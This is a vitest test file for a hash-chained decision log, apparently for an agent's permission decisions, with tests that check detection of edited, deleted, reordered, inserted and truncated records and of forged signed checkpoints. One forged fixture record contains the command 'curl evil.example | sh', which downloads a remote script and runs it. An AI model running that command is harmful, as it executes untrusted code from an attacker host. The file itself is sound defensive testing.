import { generateKeyPairSync } from 'node:crypto';
import { appendFileSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { canonicalize } from '../../src/audit/canonical.js';
import { DecisionLog } from '../../src/audit/log.js';
import { verifyLog } from '../../src/audit/verify.js';
import { forge, readLines, sampleEntry, tempDir, writeLines, writeLog } from './fixtures/sample.js';

const t = tempDir();
afterAll(() => t.cleanup());
let n = 0;
let log = '';
let cp = '';
let lines: string[] = [];
let hashes: string[] = [];

beforeEach(async () => {
  n++;
  log = join(t.dir, `log-${n}.jsonl`);
  cp = join(t.dir, `log-${n}.checkpoint`);
  const records = await writeLog(log, 20, { checkpointPath: cp });
  lines = readLines(log);
  hashes = records.map((r) => r.hash);
});

const verify = (options = {}) => verifyLog(log, { checkpointPath: cp, ...options });
const hashOf = (line: string) => (JSON.parse(line) as { hash: string }).hash;

describe('verifyLog on an intact log', () => {
  it('counts the records and names the head', async () => {
    expect(await verify()).toEqual({
      ok: true,
      count: 20,
      head: hashes[19],
      checkpoint: { count: 20, ts: expect.any(String), signed: false, verified: false, beyond: 0 },
    });
  });

  it('agrees in deep mode', async () => {
    expect(await verify({ deep: true })).toMatchObject({ ok: true, count: 20, head: hashes[19] });
  });

  it('works without a checkpoint', async () => {
    expect(await verifyLog(log)).toEqual({ ok: true, count: 20, head: hashes[19] });
  });

  it('counts records appended after the checkpoint as intact but not covered', async () => {
    const more = await DecisionLog.open(log);
    await more.append(sampleEntry(20));
    await more.close();
    expect(await verify()).toMatchObject({ ok: true, count: 21, checkpoint: { count: 20, beyond: 1 } });
  });
});

describe('verifyLog finds every kind of tampering', () => {
  it('one byte of a field edited: edited, at that record', async () => {
    lines[4] = lines[4]!.replace('Read-only inside', 'Read-only insidf');
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'edited', line: 5, seq: 5, verified: 4 });
    expect(await verify({ deep: true })).toMatchObject({ ok: false, kind: 'edited', line: 5 });
  });

  it('a record edited and its hash recomputed: edited, at that record, because the next one does not link to it', async () => {
    lines[4] = forge(lines[4]!, (r) => {
      (r.decision as { reason: string }).reason = 'Allowed after all';
    });
    writeLines(log, lines);
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'edited', line: 5, seq: 5 });
    expect(result.ok || result.message).toMatch(/hash recomputed/);
  });

  it('a line deleted: removed, where the gap is', async () => {
    lines.splice(7, 1);
    writeLines(log, lines);
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'removed', line: 8, seq: 9, verified: 7 });
    expect(result.ok || result.message).toMatch(/record seq 8 is missing/);
  });

  it('several lines deleted: removed, with the range', async () => {
    lines.splice(7, 3);
    writeLines(log, lines);
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'removed', line: 8, seq: 11 });
    expect(result.ok || result.message).toMatch(/seq 8\.\.10 are missing \(3\)/);
  });

  it('the first line deleted: removed', async () => {
    writeLines(log, lines.slice(1));
    expect(await verify()).toMatchObject({ ok: false, kind: 'removed', line: 1, seq: 2, verified: 0 });
  });

  it('two adjacent lines swapped: reordered', async () => {
    [lines[5], lines[6]] = [lines[6]!, lines[5]!];
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'reordered', line: 6, seq: 7 });
  });

  it('two distant lines swapped: reordered', async () => {
    [lines[2], lines[14]] = [lines[14]!, lines[2]!];
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'reordered', line: 3, seq: 15 });
  });

  it('the last two lines swapped: reordered', async () => {
    [lines[18], lines[19]] = [lines[19]!, lines[18]!];
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'reordered', line: 19, seq: 20 });
  });

  it('a forged line with a recomputed hash but a wrong prev inserted: inserted', async () => {
    const forged = forge(lines[10]!, (r) => {
      r.prev = hashes[2];
      (r.request as { input: unknown }).input = { command: 'curl evil.example | sh' };
    });
    lines.splice(10, 0, forged);
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'inserted', line: 11, seq: 11, verified: 10 });
  });

  it('a forged line that links correctly inserted: inserted, at the forged line, since the chain continues from the real one', async () => {
    const forged = forge(lines[10]!, (r) => {
      (r.decision as { reason: string }).reason = 'Allowed by the forger';
    });
    lines.splice(10, 0, forged);
    writeLines(log, lines);
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'inserted', line: 11, seq: 11 });
    expect(result.ok || result.message).toMatch(/both claim seq 11/);
  });

  it('a forged line that links correctly appended after the last one: inserted, and it says it cannot tell which', async () => {
    lines.splice(
      19,
      0,
      forge(lines[19]!, (r) => {
        r.agentId = 'someone-else';
      }),
    );
    writeLines(log, lines);
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'inserted', line: 20 });
    expect(result.ok || result.message).toMatch(/cannot tell which/);
  });

  it('a line copied elsewhere: inserted, naming the original', async () => {
    lines.splice(12, 0, lines[3]!);
    writeLines(log, lines);
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'inserted', line: 13, seq: 4 });
    expect(result.ok || result.message).toMatch(/copy of line 4/);
  });

  it('a forged record with a recomputed hash and a seq far ahead: inserted, the chain continuing past it', async () => {
    lines.splice(
      5,
      0,
      forge(lines[5]!, (r) => {
        r.seq = 500;
        r.prev = 'f'.repeat(64);
      }),
    );
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'inserted', line: 6, seq: 500 });
  });

  it('another log appended to this one: inserted, a second chain', async () => {
    const other = join(t.dir, `other-${n}.jsonl`);
    await writeLog(other, 3);
    appendFileSync(log, readFileSync(other));
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'inserted', line: 21, seq: 1 });
    expect(result.ok || result.message).toMatch(/second chain/);
  });

  it('the tail cut off with a checkpoint present: truncated', async () => {
    writeLines(log, lines.slice(0, 17));
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'truncated', line: 18, verified: 17 });
    expect(result.ok || result.message).toMatch(/counts 20 records but the log ends after 17/);
  });

  it('the tail cut off without a checkpoint: undetectable, by design (17 intact records)', async () => {
    writeLines(log, lines.slice(0, 17));
    expect(await verifyLog(log)).toMatchObject({ ok: true, count: 17 });
  });

  it('the tail cut back and rewritten to the same length: truncated, the head does not match', async () => {
    writeLines(log, lines.slice(0, 15));
    const rewrite = await DecisionLog.open(log);
    for (let i = 0; i < 5; i++) await rewrite.append(sampleEntry(100 + i));
    await rewrite.close();
    const result = await verify();
    expect(result).toMatchObject({ ok: false, kind: 'truncated', line: 20, seq: 20 });
    expect(result.ok || result.message).toMatch(/cut back and rewritten/);
  });

  it('a last line cut mid-write: truncated, at that line', async () => {
    const size = readFileSync(log).length;
    truncateSync(log, size - 30);
    expect(await verifyLog(log)).toMatchObject({ ok: false, kind: 'truncated', line: 20, verified: 19 });
  });

  it('only the final newline missing: truncated (the write did not finish)', async () => {
    truncateSync(log, readFileSync(log).length - 1);
    expect(await verifyLog(log)).toMatchObject({ ok: false, kind: 'truncated', line: 20 });
  });

  it('any single-byte change anywhere in the log is found', async () => {
    const bytes = readFileSync(log);
    const mutated = join(t.dir, `mutated-${n}.jsonl`);
    await fc.assert(
      fc.asyncProperty(fc.nat(bytes.length - 1), fc.integer({ min: 1, max: 255 }), async (pos, delta) => {
        const copy = Buffer.from(bytes);
        copy[pos] = (copy[pos]! + delta) % 256;
        writeFileSync(mutated, copy);
        const result = await verifyLog(mutated, { checkpointPath: cp });
        expect(result.ok).toBe(false);
      }),
      { numRuns: 300 },
    );
  });
});

describe('verifyLog with a signed checkpoint', () => {
  const keys = generateKeyPairSync('ed25519');
  const publicKey = keys.publicKey.export({ type: 'spki', format: 'pem' });

  beforeEach(async () => {
    log = join(t.dir, `signed-${n}.jsonl`);
    cp = join(t.dir, `signed-${n}.checkpoint`);
    await writeLog(log, 10, { checkpointPath: cp, signingKey: keys.privateKey });
    lines = readLines(log);
  });

  it('verifies the signature', async () => {
    expect(await verify({ publicKey })).toMatchObject({
      ok: true,
      count: 10,
      checkpoint: { signed: true, verified: true },
    });
  });

  it('rejects a forged checkpoint (the count lowered to hide a cut tail)', async () => {
    const c = JSON.parse(readFileSync(cp, 'utf8'));
    writeLines(log, lines.slice(0, 8));
    writeFileSync(cp, canonicalize({ ...c, count: 8, head: hashOf(lines[7]!) }));
    const result = await verify({ publicKey });
    expect(result).toMatchObject({ ok: false, kind: 'checkpoint' });
    expect(result.ok || result.message).toMatch(/does not verify/);
  });

  it('rejects an unsigned checkpoint put in place of the signed one', async () => {
    const c = JSON.parse(readFileSync(cp, 'utf8'));
    delete c.sig;
    writeFileSync(cp, canonicalize({ ...c, count: 8 }));
    expect(await verify({ publicKey })).toMatchObject({
      ok: false,
      kind: 'checkpoint',
      message: expect.stringMatching(/not signed/),
    });
  });

  it('rejects a checkpoint signed by another key', async () => {
    const other = generateKeyPairSync('ed25519').publicKey;
    expect(await verify({ publicKey: other })).toMatchObject({ ok: false, kind: 'checkpoint' });
  });

  it('refuses a key that is not Ed25519', async () => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).publicKey;
    expect(await verify({ publicKey: rsa })).toMatchObject({
      ok: false,
      kind: 'checkpoint',
      message: expect.stringMatching(/Ed25519/),
    });
  });
});

describe('verifyLog on bad input', () => {
  it('a missing log: missing', async () => {
    expect(await verifyLog(join(t.dir, 'nope.jsonl'))).toMatchObject({ ok: false, kind: 'missing' });
  });

  it('an empty log: empty', async () => {
    writeFileSync(log, '');
    expect(await verifyLog(log)).toMatchObject({ ok: false, kind: 'empty' });
  });

  it('a record from a newer version: newer-version, at that line', async () => {
    lines[6] = canonicalize({ ...JSON.parse(lines[6]!), v: 2 });
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'newer-version', line: 7, seq: 7, verified: 6 });
  });

  it('a corrupt line: not-json, at that line', async () => {
    lines[2] = 'this is not json';
    writeLines(log, lines);
    expect(await verify()).toMatchObject({ ok: false, kind: 'not-json', line: 3, verified: 2 });
  });

  it('a missing checkpoint file: checkpoint', async () => {
    expect(await verifyLog(log, { checkpointPath: join(t.dir, 'nope.checkpoint') })).toMatchObject({
      ok: false,
      kind: 'checkpoint',
    });
  });

  it('a directory: io', async () => {
    expect(await verifyLog(t.dir)).toMatchObject({ ok: false, kind: 'io' });
  });
});
